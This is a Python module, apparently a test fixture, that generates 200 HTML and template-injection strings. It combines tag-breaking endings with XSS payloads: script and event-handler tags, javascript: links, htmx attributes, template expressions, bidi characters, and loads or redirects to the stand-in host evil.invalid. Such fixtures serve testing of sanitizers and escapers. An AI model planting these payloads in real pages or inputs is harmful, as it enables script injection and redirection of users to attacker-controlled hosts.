"""Two hundred texts that try to become a script, a request or a page of others."""

from __future__ import annotations

from itertools import islice, product

_ENDS = (
    "",
    '">',
    "'>",
    "</td></table>",
    "</script>",
    "--><!-- -->",
    "</title>",
    "</textarea>",
    "</svg>",
    "</code></pre>",
    "\x00",
    "&quot;&gt;",
)
_BEGINS = (
    "<script>alert({n})</script>",
    "<img src=x{n} onerror=alert({n})>",
    "<svg onload=alert({n})>",
    '" autofocus onfocus=alert({n}) x="',
    "<a href=javascript:alert({n})>go</a>",
    "<iframe srcdoc='<script>alert({n})</script>'></iframe>",
    "<iframe src=//evil.invalid/{n}></iframe>",
    "<style>*{{background:url(//evil.invalid/{n})}}</style>",
    "<meta http-equiv=refresh content=0;url=//evil.invalid/{n}>",
    "<link rel=stylesheet href=//evil.invalid/{n}>",
    "<base href=//evil.invalid/{n}/>",
    "<div hx-get=/x{n} hx-trigger=load hx-on:load=alert({n})>",
    "<div hx-sse:connect=/x{n}></div>",
    "{{{{ 7 * {n} }}}}{{% for x in site %}}{{{{ x }}}}{{% endfor %}}",
    "${{alert({n})}}`",
    "\u202e<b>{n}\u2066",
    "<math><mtext></style><img src=x{n} onerror=alert({n})>",
)

TEXTS = [
    end + begin.format(n=number)
    for number, (begin, end) in enumerate(islice(product(_BEGINS, _ENDS), 200))
]
